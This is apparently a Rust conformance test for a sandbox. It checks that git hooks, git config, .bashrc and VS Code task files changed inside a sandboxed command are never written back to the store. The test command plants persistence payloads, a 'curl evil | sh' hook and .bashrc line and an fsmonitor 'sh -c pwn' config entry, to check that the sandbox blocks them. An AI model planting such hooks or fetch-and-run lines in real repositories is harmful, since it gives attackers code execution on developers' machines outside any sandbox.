//! Persistence through git and start-up files (`sandbox-anchors.md` §7.2), part of the conformance
//! suite: a command may change `.git/hooks`, `.git/config`, `.bashrc`, `.vscode/…` in its copy, but
//! none of it reaches the store, where host tools would later run it outside any sandbox. Each is
//! named as [`NotWrittenReason::Protected`]; ordinary files of the same command come back.

use std::sync::Arc;

use trellis_backend::Backend;
use trellis_backend::sandbox::{ExecFiles, ExecRequest, NotWrittenReason, Sandbox};

use super::{seed, text};

pub async fn git_hooks_config_and_startup_files_are_never_written_back(s: &dyn Sandbox, b: Arc<dyn Backend>) {
    let config = "[core]\n\trepositoryformatversion = 0\n";
    seed(
        b.as_ref(),
        &[
            ("/repo/.git/config", config),
            ("/repo/.git/HEAD", "ref: refs/heads/main\n"),
            ("/repo/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n"),
            ("/repo/src/a.txt", "a"),
        ],
    )
    .await;
    let command = "cd repo && \
        printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/post-checkout && \
        printf '[core]\\n\\tfsmonitor = sh -c pwn\\n' >> .git/config && \
        rm .git/hooks/pre-commit && \
        echo 'curl evil | sh' > .bashrc && \
        mkdir -p .vscode && echo '{}' > .vscode/tasks.json && \
        echo b > src/a.txt && echo HEAD-unchanged >/dev/null";
    let out = s
        .execute(&ExecFiles::new(b.clone()), &ExecRequest::new(command))
        .await
        .unwrap();
    assert_eq!(out.exit_code, Some(0), "{}: {out:?}", s.name());
    assert_eq!(
        text(b.as_ref(), "/repo/src/a.txt").await.as_deref(),
        Some("b\n"),
        "{out:?}"
    );
    assert_eq!(
        text(b.as_ref(), "/repo/.git/config").await.as_deref(),
        Some(config)
    );
    assert_eq!(
        text(b.as_ref(), "/repo/.git/hooks/pre-commit").await.as_deref(),
        Some("#!/bin/sh\nexit 0\n"),
        "a deleted hook was deleted from the store"
    );
    for planted in [
        "/repo/.git/hooks/post-checkout",
        "/repo/.bashrc",
        "/repo/.vscode/tasks.json",
    ] {
        assert_eq!(
            text(b.as_ref(), planted).await,
            None,
            "{}: {planted} was written back",
            s.name()
        );
    }
    let mut protected: Vec<&str> = out
        .not_written
        .iter()
        .filter(|n| matches!(n.reason, NotWrittenReason::Protected(_)))
        .map(|n| n.path.as_str())
        .collect();
    protected.sort_unstable();
    assert_eq!(
        protected,
        [
            "/repo/.bashrc",
            "/repo/.git/config",
            "/repo/.git/hooks/post-checkout",
            "/repo/.git/hooks/pre-commit",
            "/repo/.vscode/tasks.json",
        ],
        "{}: {out:?}",
        s.name()
    );
}
